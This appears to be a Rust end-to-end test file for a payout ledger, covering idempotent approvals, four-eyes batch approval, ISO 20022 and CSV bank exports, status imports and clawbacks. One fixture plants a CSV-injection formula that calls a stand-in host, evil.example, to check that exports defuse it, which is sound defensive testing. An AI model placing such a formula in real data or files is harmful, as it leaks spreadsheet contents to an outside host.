//! The payout ledger end to end: approvals post once however often and however concurrently they arrive,
//! adjustments are idempotent, the ledger is append-only in the database, and a payout batch goes from draft
//! through four-eyes approval to bank files (CSV, pain.001.001.09 and .03, validated against the XSDs), bank
//! answers (paid, failed with money returned and an email), yearly statements and a clawback.

use std::time::Duration;

use chrono::Datelike;

use fieldwork::db::new_id;
use fieldwork::domain::Role;
use fieldwork_e2e::{error_code, error_field, TestApp};
use serde_json::{json, Value};

use super::visits::{field, Field};

/// `n` submitted visits per shopper on the field's wave (fee 400 UAH; every second one with a 50 UAH bonus),
/// written straight into the database: the visit flow itself is tested in `visits.rs`.
async fn submitted_visits(app: &TestApp, field: &Field, shoppers: &[String], n: usize) -> Vec<(String, String)> {
    let (wave_id, venue_id): (String, String) = sqlx::query_as("SELECT wave_id, venue_id FROM tasks WHERE id = $1")
        .bind(&field.tasks[0])
        .fetch_one(app.db.pool())
        .await
        .unwrap();
    let version: String = sqlx::query_scalar("SELECT checklist_version_id FROM waves WHERE id = $1")
        .bind(&wave_id)
        .fetch_one(app.db.pool())
        .await
        .unwrap();
    let now = app.db.now_ms();
    let mut visits = Vec::new();
    let mut seq: i64 = 100;
    for shopper in shoppers {
        for k in 0..n {
            seq += 1;
            let task = new_id();
            sqlx::query(
                "INSERT INTO tasks (id, wave_id, venue_id, seq, state, fee_kopiykas, bonus_kopiykas, created_at, updated_at, \
                 shopper_id, held_since) VALUES ($1, $2, $3, $4, 'SUBMITTED', 40000, $5, $6, $6, $7, $6)",
            )
            .bind(&task)
            .bind(&wave_id)
            .bind(&venue_id)
            .bind(seq)
            .bind(if k % 2 == 1 { 5_000i64 } else { 0 })
            .bind(now)
            .bind(shopper)
            .execute(app.db.pool())
            .await
            .unwrap();
            let visit = new_id();
            sqlx::query(
                "INSERT INTO visits (id, task_id, shopper_id, checklist_version_id, state, checkin_attempt_id, \
                 checkin_device_at, checkin_server_at, answers, score, submitted_at, created_at, updated_at) \
                 VALUES ($1, $2, $3, $4, 'SUBMITTED', 'seeded', $5, $5, '{}', 100.0, $5, $5, $5)",
            )
            .bind(&visit)
            .bind(&task)
            .bind(shopper)
            .bind(&version)
            .bind(now)
            .execute(app.db.pool())
            .await
            .unwrap();
            visits.push((visit, shopper.clone()));
        }
    }
    visits
}

const APPROVE: &str = "mutation($v: ID!) { reviewVisit(visitId: $v, decision: APPROVE) { state } }";
const ADJUST: &str = "mutation($s: ID!, $a: Int!, $r: String!, $k: String!) { adjustBalance(shopperId: $s, \
     amountKopiykas: $a, reason: $r, idempotencyKey: $k) { id amountKopiykas kind } }";
const CHECK: &str =
    "query { ledgerCheck { ok accounts transactions driftedAccounts unbalancedTransactions totalKopiykas } }";
const EARNINGS: &str =
    "query($s: ID!) { shopperEarnings(shopperId: $s) { balanceKopiykas pendingKopiykas availableKopiykas } }";

/// Every invariant, straight from the database: each kept balance is the sum of its entries, each
/// transaction balances, all balances sum to zero, and no source key posted twice.
async fn assert_ledger_consistent(app: &TestApp, payments: &str) {
    let body = app.gql(Some(payments), CHECK, json!({})).await;
    assert_eq!(body["data"]["ledgerCheck"]["ok"], true, "{body}");
    let drift: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM ledger_accounts a WHERE a.balance <> \
         (SELECT COALESCE(SUM(e.amount), 0) FROM ledger_entries e WHERE e.account_id = a.id)",
    )
    .fetch_one(app.db.pool())
    .await
    .unwrap();
    assert_eq!(drift, 0);
    let twice: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM (SELECT source_key FROM ledger_transactions GROUP BY source_key HAVING COUNT(*) > 1) d",
    )
    .fetch_one(app.db.pool())
    .await
    .unwrap();
    assert_eq!(twice, 0);
}

async fn earnings(app: &TestApp, payments: &str, shopper: &str) -> (i64, i64, i64) {
    let body = app.gql(Some(payments), EARNINGS, json!({ "s": shopper })).await;
    let e = &body["data"]["shopperEarnings"];
    (
        e["balanceKopiykas"].as_i64().unwrap_or_else(|| panic!("{body}")),
        e["pendingKopiykas"].as_i64().unwrap(),
        e["availableKopiykas"].as_i64().unwrap(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hundred_concurrent_approvals_and_adjustments_post_once() {
    let app = TestApp::spawn().await;
    let field = field(&app, json!({})).await;
    let payments = app.staff(Role::Payments).await.token;
    let mut shoppers = Vec::new();
    for i in 0..4 {
        let (_, id) = app
            .quick_shopper(&format!("earner{i}@example.com"), 60.17, 24.94, 30.0, true)
            .await;
        shoppers.push(id);
    }
    let visits = submitted_visits(&app, &field, &shoppers, 5).await;

    // 20 visits approved three times each, and 10 adjustments sent four times each, all at once.
    let coordinator = field.coordinator.as_str();
    let mut requests = Vec::new();
    for round in 0..3 {
        for (visit, _) in &visits {
            requests.push((Some(coordinator), APPROVE, json!({ "v": visit }), round));
        }
    }
    for round in 0..4 {
        for k in 0..10 {
            let amount = if k % 3 == 0 { -1_500 } else { 2_500 };
            requests.push((
                Some(payments.as_str()),
                ADJUST,
                json!({ "s": shoppers[k % 4], "a": amount, "r": format!("correction {k}"), "k": format!("adj-{k}") }),
                round,
            ));
        }
    }
    assert_eq!(requests.len(), 100);
    let answers =
        futures::future::join_all(requests.iter().map(|(token, q, v, _)| app.gql(*token, q, v.clone()))).await;
    for (body, (_, query, _, _)) in answers.iter().zip(&requests) {
        if *query == APPROVE {
            assert_eq!(body["data"]["reviewVisit"]["state"], "APPROVED", "{body}");
        } else {
            assert_eq!(body["data"]["adjustBalance"]["kind"], "ADJUSTMENT", "{body}");
        }
    }
    let transactions: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM ledger_transactions")
        .fetch_one(app.db.pool())
        .await
        .unwrap();
    assert_eq!(transactions, 30, "20 approvals and 10 adjustments, each once");
    assert_ledger_consistent(&app, &payments).await;

    // Each shopper: five visits (400 UAH each, two of them with a 50 UAH bonus) and their adjustments.
    for (i, shopper) in shoppers.iter().enumerate() {
        let adjustments: i64 = (0..10)
            .filter(|k| k % 4 == i)
            .map(|k| if k % 3 == 0 { -1_500 } else { 2_500 })
            .sum();
        let (balance, pending, available) = earnings(&app, &payments, shopper).await;
        assert_eq!(balance, 5 * 40_000 + 2 * 5_000 + adjustments, "shopper {i}");
        assert_eq!((pending, available), (0, balance));
    }

    // The same idempotency key for a different adjustment is refused, and changes nothing.
    let body = app
        .gql(
            Some(&payments),
            ADJUST,
            json!({ "s": shoppers[0], "a": 99, "r": "something else", "k": "adj-0" }),
        )
        .await;
    assert_eq!(error_code(&body), Some("CONFLICT"), "{body}");
    assert_eq!(error_field(&body), Some("idempotencyKey"));
    let body = app
        .gql(
            Some(&payments),
            ADJUST,
            json!({ "s": shoppers[0], "a": 0, "r": "nothing", "k": "adj-zero" }),
        )
        .await;
    assert_eq!(error_field(&body), Some("amountKopiykas"), "{body}");
    let body = app
        .gql(
            Some(&payments),
            ADJUST,
            json!({ "s": user_id(&app, &field.coordinator).await, "a": 100, "r": "not a shopper", "k": "adj-staff" }),
        )
        .await;
    assert_eq!(error_field(&body), Some("shopperId"), "{body}");
    let after: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM ledger_transactions")
        .fetch_one(app.db.pool())
        .await
        .unwrap();
    assert_eq!(after, 30);

    // The database itself refuses to change or delete ledger rows.
    for sql in [
        "UPDATE ledger_entries SET amount = amount + 1",
        "DELETE FROM ledger_entries",
        "UPDATE ledger_transactions SET memo = 'edited'",
        "DELETE FROM ledger_transactions",
    ] {
        let refused = sqlx::query(sql).execute(app.db.pool()).await.unwrap_err();
        assert!(refused.to_string().contains("append-only"), "{sql}: {refused}");
    }
    assert_ledger_consistent(&app, &payments).await;
    app.stop().await;
}

async fn user_id(app: &TestApp, token: &str) -> String {
    let body = app.gql(Some(token), "query { me { id } }", json!({})).await;
    body["data"]["me"]["id"].as_str().unwrap().to_string()
}

/// Downloads a batch's bank file.
async fn export(app: &TestApp, token: &str, batch: &str, format: &str) -> (u16, String) {
    let response = reqwest::Client::new()
        .get(format!(
            "{}/payouts/batches/{batch}/export?format={format}",
            app.base_url
        ))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    (response.status().as_u16(), response.text().await.unwrap())
}

/// Validates against the XSD with `xmllint` (Debian `libxml2-utils`; CI installs it and sets
/// `FIELDWORK_REQUIRE_XMLLINT=1`, so there a missing validator fails the test).
fn validate_xsd(xml: &str, xsd: &str) {
    let dir = tempfile_dir();
    let file = dir.join("export.xml");
    std::fs::write(&file, xml).unwrap();
    let schema = format!(
        "{}/fixtures/iso20022/xsd/{xsd}",
        std::env::var("CARGO_MANIFEST_DIR").unwrap_or_else(|_| env!("CARGO_MANIFEST_DIR").to_string())
    );
    match std::process::Command::new("xmllint")
        .args(["--noout", "--schema", &schema])
        .arg(&file)
        .output()
    {
        Ok(out) => assert!(
            out.status.success(),
            "{xsd}: {}\n{}",
            String::from_utf8_lossy(&out.stderr),
            &xml[..xml.len().min(3_000)]
        ),
        Err(e) => {
            assert!(
                std::env::var_os("FIELDWORK_REQUIRE_XMLLINT").is_none(),
                "xmllint is required here: {e}"
            );
            eprintln!(
                "WARNING: xmllint not found ({e}); the export was checked without its XSD (apt install libxml2-utils)"
            );
        }
    }
}

fn tempfile_dir() -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("fw-export-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Kopiykas from `123.45`.
fn kopiykas(decimal: &str) -> i64 {
    let (whole, cents) = decimal.split_once('.').unwrap();
    whole.parse::<i64>().unwrap() * 100 + cents.parse::<i64>().unwrap()
}

/// The texts of every element called `name`, in order.
fn texts<'a>(xml: &'a str, name: &str) -> Vec<&'a str> {
    let open = format!("<{name}");
    let close = format!("</{name}>");
    let mut out = Vec::new();
    let mut rest = xml;
    while let Some(start) = rest.find(&open) {
        let after = &rest[start..];
        let Some(gt) = after.find('>') else { break };
        let body = &after[gt + 1..];
        let end = body.find(&close).unwrap();
        out.push(&body[..end]);
        rest = &body[end..];
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_payout_batch_from_draft_to_bank_and_back() {
    let app = TestApp::spawn_with(fieldwork_e2e::Options {
        tweak: Box::new(|s| {
            s.payouts.debtor_iban = Some("UA90 3052 9929 9000 4149 1234 5678 9".into());
            s.payouts.debtor_name = "ТОВ «Польові дослідження»".into();
        }),
        ..Default::default()
    })
    .await;
    let field = field(&app, json!({})).await;
    let maker = app.staff(Role::Payments).await.token;
    let checker = app.staff(Role::Payments).await.token;
    let mut shoppers = Vec::new();
    for i in 0..4 {
        let (phone, id) = app
            .quick_shopper(&format!("payee{i}@example.com"), 60.17, 24.94, 30.0, true)
            .await;
        shoppers.push((phone, id));
    }
    let ids: Vec<String> = shoppers.iter().map(|(_, id)| id.clone()).collect();
    // Shoppers 0, 1, 2 earn 400 UAH twice (one with a 50 UAH bonus): 850 UAH. Shopper 3 earns only by a 50 UAH
    // adjustment (below the 100 UAH minimum). Shopper 2's IBAN on file went bad.
    let visits = submitted_visits(&app, &field, &ids[..3], 2).await;
    for (visit, _) in &visits {
        let body = app.gql(Some(&field.coordinator), APPROVE, json!({ "v": visit })).await;
        assert_eq!(body["data"]["reviewVisit"]["state"], "APPROVED", "{body}");
    }
    let body = app
        .gql(
            Some(&maker),
            ADJUST,
            json!({ "s": ids[3], "a": 5_000, "r": "welcome bonus", "k": "welcome-3" }),
        )
        .await;
    assert_eq!(body["data"]["adjustBalance"]["amountKopiykas"], 5_000, "{body}");
    sqlx::query("UPDATE shopper_profiles SET iban = 'UA213223130000026007233566002' WHERE user_id = $1")
        .bind(&ids[2])
        .execute(app.db.pool())
        .await
        .unwrap();
    // Shopper 0's account holder (as an old profile may hold it) would be a live formula in a spreadsheet.
    sqlx::query("UPDATE shopper_profiles SET account_holder = $1 WHERE user_id = $2")
        .bind("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Олена\")")
        .bind(&ids[0])
        .execute(app.db.pool())
        .await
        .unwrap();

    let today = app.clock.kyiv_today();
    let (from, to) = ((today - chrono::Duration::days(30)).to_string(), today.to_string());
    let create = "mutation($f: String!, $t: String!, $k: String) { createPayoutBatch(periodFrom: $f, periodTo: $t, idempotencyKey: $k) { \
         batch { id state lineCount grossKopiykas withheldKopiykas netKopiykas } skipped { shopperId reason } } }";
    let body = app
        .gql(Some(&maker), create, json!({ "f": to, "t": from, "k": null }))
        .await;
    assert_eq!(error_field(&body), Some("periodTo"), "{body}");
    let body = app
        .gql(Some(&maker), create, json!({ "f": from, "t": to, "k": "close-month" }))
        .await;
    let result = &body["data"]["createPayoutBatch"];
    let batch = result["batch"]["id"]
        .as_str()
        .unwrap_or_else(|| panic!("{body}"))
        .to_string();
    assert_eq!(result["batch"]["state"], "DRAFT");
    assert_eq!(result["batch"]["lineCount"], 2, "{body}");
    assert_eq!(result["batch"]["grossKopiykas"], 170_000);
    // 18 % + 5 % of 850 UAH each: 153 + 42.50.
    assert_eq!(result["batch"]["withheldKopiykas"], 2 * (15_300 + 4_250));
    assert_eq!(result["batch"]["netKopiykas"], 2 * (85_000 - 19_550));
    assert_eq!(result["skipped"][0]["shopperId"], ids[2].as_str());
    assert!(result["skipped"][0]["reason"].as_str().unwrap().contains("IBAN"));
    // A retry returns the same batch; the money is pending, not available.
    let again = app
        .gql(Some(&maker), create, json!({ "f": from, "t": to, "k": "close-month" }))
        .await;
    assert_eq!(
        again["data"]["createPayoutBatch"]["batch"]["id"],
        batch.as_str(),
        "{again}"
    );
    assert_eq!(earnings(&app, &maker, &ids[0]).await, (85_000, 85_000, 0));
    // Their money is in one open batch at a time: nobody is left for another.
    let body = app
        .gql(Some(&maker), create, json!({ "f": from, "t": to, "k": null }))
        .await;
    assert_eq!(error_code(&body), Some("CONFLICT"), "{body}");

    // Not exportable before approval; the maker may not approve; the checker does.
    let (status, text) = export(&app, &maker, &batch, "csv").await;
    assert_eq!(status, 409, "{text}");
    let approve = "mutation($id: ID!) { approvePayoutBatch(id: $id) { state decidedBy } }";
    let body = app.gql(Some(&maker), approve, json!({ "id": batch })).await;
    assert_eq!(error_code(&body), Some("FORBIDDEN"), "{body}");
    let body = app.gql(Some(&checker), approve, json!({ "id": batch })).await;
    assert_eq!(body["data"]["approvePayoutBatch"]["state"], "APPROVED", "{body}");
    let body = app.gql(Some(&checker), approve, json!({ "id": batch })).await;
    assert_eq!(
        body["data"]["approvePayoutBatch"]["state"], "APPROVED",
        "approving twice is harmless"
    );
    let body = app
        .gql(
            Some(&maker),
            "mutation($id: ID!) { cancelPayoutBatch(id: $id, reason: \"too late\") { state } }",
            json!({ "id": batch }),
        )
        .await;
    assert_eq!(
        error_code(&body),
        Some("CONFLICT"),
        "approved batches are immutable: {body}"
    );
    assert_eq!(earnings(&app, &maker, &ids[0]).await, (0, 0, 0));
    assert_ledger_consistent(&app, &maker).await;

    // Bank files: CSV, and pain.001 (09 and 03) valid against their schemas, with correct counts and sums.
    let (status, csv_text) = export(&app, &maker, &batch, "csv").await;
    assert_eq!(status, 200, "{csv_text}");
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows.iter().map(|r| kopiykas(&r[8])).sum::<i64>(), 2 * 65_450);
    assert!(rows.iter().all(|r| r[10].contains(&from) && r[10].contains(&to)));
    // Text cells that a spreadsheet would run as formulas are defused (OWASP CSV injection).
    let holder = rows.iter().find(|r| &r[1] == ids[0].as_str()).unwrap()[2].to_string();
    assert!(holder.starts_with("'=HYPERLINK("), "{holder}");
    assert!(rows
        .iter()
        .all(|r| !r.iter().any(|cell| cell.starts_with(['=', '+', '@']))));
    let mut message_ids = Vec::new();
    for (format, xsd) in [
        ("pain.001.001.09", "pain.001.001.09.xsd"),
        ("pain.001.001.03", "pain.001.001.03.xsd"),
    ] {
        let (status, xml) = export(&app, &maker, &batch, format).await;
        assert_eq!(status, 200, "{xml}");
        validate_xsd(&xml, xsd);
        assert_eq!(texts(&xml, "NbOfTxs"), ["2", "2"], "group and payment level");
        assert_eq!(texts(&xml, "CtrlSum"), ["1309.00", "1309.00"]);
        let amounts: i64 = texts(&xml, "InstdAmt").iter().map(|a| kopiykas(a)).sum();
        assert_eq!(amounts, 130_900, "the amounts add up to CtrlSum");
        assert!(xml.contains("UA903052992990004149123456789"), "the debtor account");
        assert!(texts(&xml, "Ustrd").iter().all(|u| u.contains(&from)));
        message_ids.push(texts(&xml, "MsgId")[0].to_string());
    }
    assert_ne!(message_ids[0], message_ids[1], "every export has its own message id");
    let (status, _) = export(&app, &maker, &batch, "pdf").await;
    assert_eq!(status, 400);
    let shopper_token = shoppers[0].0.token().unwrap().to_string();
    let (status, _) = export(&app, &shopper_token, &batch, "csv").await;
    assert_eq!(status, 403);

    // The bank answers: shopper 0 paid (once), shopper 1 failed (money back, an email).
    let lines_query =
        "query($id: ID!) { payoutBatch(id: $id) { lines { edges { node { id shopperId endToEndId state } } } } }";
    let body = app.gql(Some(&maker), lines_query, json!({ "id": batch })).await;
    let lines: Vec<Value> = body["data"]["payoutBatch"]["lines"]["edges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["node"].clone())
        .collect();
    let line_of = |shopper: &str| lines.iter().find(|l| l["shopperId"] == shopper).unwrap().clone();
    let settle = "mutation($l: ID!, $o: Settlement!, $r: String) { settlePayoutLine(lineId: $l, outcome: $o, reason: $r) { state } }";
    let paid = line_of(&ids[0]);
    let body = app
        .gql(Some(&maker), settle, json!({ "l": paid["id"], "o": "PAID" }))
        .await;
    assert_eq!(body["data"]["settlePayoutLine"]["state"], "PAID", "{body}");
    let body = app
        .gql(Some(&maker), settle, json!({ "l": paid["id"], "o": "PAID" }))
        .await;
    assert_eq!(error_code(&body), Some("CONFLICT"), "paid twice: {body}");
    let failed = line_of(&ids[1]);
    let status_file = format!(
        "end_to_end_id,status,reason\n{},FAILED,Account closed\n",
        failed["endToEndId"].as_str().unwrap()
    );
    let import = "mutation($b: ID!, $file: Upload!) { importPayoutStatus(batchId: $b, file: $file) { paid failed } }";
    let (_, body) = app
        .upload(
            Some(&maker),
            import,
            json!({ "b": batch }),
            "file",
            "status.csv",
            status_file.clone().into_bytes(),
        )
        .await;
    assert_eq!(body["data"]["importPayoutStatus"]["failed"], 1, "{body}");
    // The same file again (a resend, a double click) returns the first result and settles nothing twice …
    let (_, body) = app
        .upload(
            Some(&maker),
            import,
            json!({ "b": batch }),
            "file",
            "status.csv",
            status_file.clone().into_bytes(),
        )
        .await;
    assert_eq!(
        body["data"]["importPayoutStatus"]["failed"], 1,
        "the same file again: {body}"
    );
    assert_eq!(body["data"]["importPayoutStatus"]["paid"], 0, "{body}");
    // … while another file that settles the same line again is a conflict naming the row.
    let (_, body) = app
        .upload(
            Some(&maker),
            import,
            json!({ "b": batch }),
            "file",
            "status-2.csv",
            status_file
                .replace("Account closed", "Account closed (2nd notice)")
                .into_bytes(),
        )
        .await;
    assert_eq!(error_code(&body), Some("CONFLICT"), "settled twice: {body}");
    assert_eq!(error_field(&body), Some("file.row[2]"), "{body}");
    let (_, body) = app
        .upload(
            Some(&maker),
            import,
            json!({ "b": batch }),
            "file",
            "status.csv",
            b"end_to_end_id,status\nnot-a-line,PAID\n".to_vec(),
        )
        .await;
    assert_eq!(error_field(&body), Some("file.row[2].end_to_end_id"), "{body}");
    assert_eq!(earnings(&app, &maker, &ids[1]).await, (85_000, 0, 85_000), "money back");
    // (The first mail is the sign-up's verification link.)
    let mails = app
        .mailbox
        .wait_for_count("payee1@example.com", 2, Duration::from_secs(10))
        .await;
    let mail = mails
        .iter()
        .find(|m| m.subject == "Виплату не здійснено")
        .expect("the payout mail");
    assert!(
        mail.body.contains("Account closed") && mail.body.contains("654.50 UAH"),
        "{}",
        mail.body
    );
    assert_ledger_consistent(&app, &maker).await;

    // The shopper sees their own line and history; the statement counts what was paid, not what failed.
    let body = app
        .gql(
            shoppers[0].0.token(),
            "query($y: Int!) { myEarnings { balanceKopiykas payoutLines { edges { node { state netKopiykas } } } \
             history { edges { node { kind amountKopiykas } } } } myYearlyStatement(year: $y) { csv months { month grossKopiykas netKopiykas } } }",
            json!({ "y": today.year() }),
        )
        .await;
    let mine = &body["data"]["myEarnings"];
    assert_eq!(mine["payoutLines"]["edges"][0]["node"]["state"], "PAID", "{body}");
    assert_eq!(mine["history"]["edges"][0]["node"]["kind"], "PAYOUT");
    assert_eq!(mine["history"]["edges"][0]["node"]["amountKopiykas"], -85_000);
    let month = today.month() as usize;
    let statement = &body["data"]["myYearlyStatement"];
    assert_eq!(statement["months"][month - 1]["grossKopiykas"], 85_000);
    assert_eq!(statement["months"][month - 1]["netKopiykas"], 65_450);
    assert!(
        statement["csv"]
            .as_str()
            .unwrap()
            .contains("total,850.00,153.00,42.50,654.50,UAH"),
        "{body}"
    );
    let body = app
        .gql(
            Some(&maker),
            "query($s: ID!, $y: Int!) { yearlyStatement(shopperId: $s, year: $y) { months { grossKopiykas } } }",
            json!({ "s": ids[1], "y": today.year() }),
        )
        .await;
    assert_eq!(
        body["data"]["yearlyStatement"]["months"][month - 1]["grossKopiykas"],
        0,
        "{body}"
    );

    // Fraud found after payment: the approval is revoked and clawed back; the shopper now owes it.
    let revoke = "mutation($v: ID!) { revokeApproval(visitId: $v, reason: \"photos were staged\") { state } }";
    let visit0 = &visits.iter().find(|(_, s)| s == &ids[0]).unwrap().0;
    for _ in 0..2 {
        let body = app.gql(Some(&field.coordinator), revoke, json!({ "v": visit0 })).await;
        assert_eq!(body["data"]["revokeApproval"]["state"], "REJECTED", "{body}");
    }
    assert_eq!(earnings(&app, &maker, &ids[0]).await.0, -40_000, "clawed back once");
    let body = app
        .gql(
            Some(&maker),
            "query($f: String!, $t: String!) { ledgerTotals(from: $f, to: $t) { kind transactions amountKopiykas } }",
            json!({ "f": from, "t": to }),
        )
        .await;
    let totals = body["data"]["ledgerTotals"]
        .as_array()
        .unwrap_or_else(|| panic!("{body}"));
    let total = |kind: &str| {
        totals
            .iter()
            .find(|t| t["kind"] == kind)
            .map_or(0, |t| t["amountKopiykas"].as_i64().unwrap())
    };
    assert_eq!(total("VISIT_APPROVAL"), 3 * 85_000);
    assert_eq!(total("APPROVAL_REVOKED"), -40_000);
    assert_eq!(total("PAYOUT"), -170_000);
    assert_eq!(total("PAYOUT_FAILED"), 85_000);
    assert_ledger_consistent(&app, &maker).await;
    app.stop().await;
}
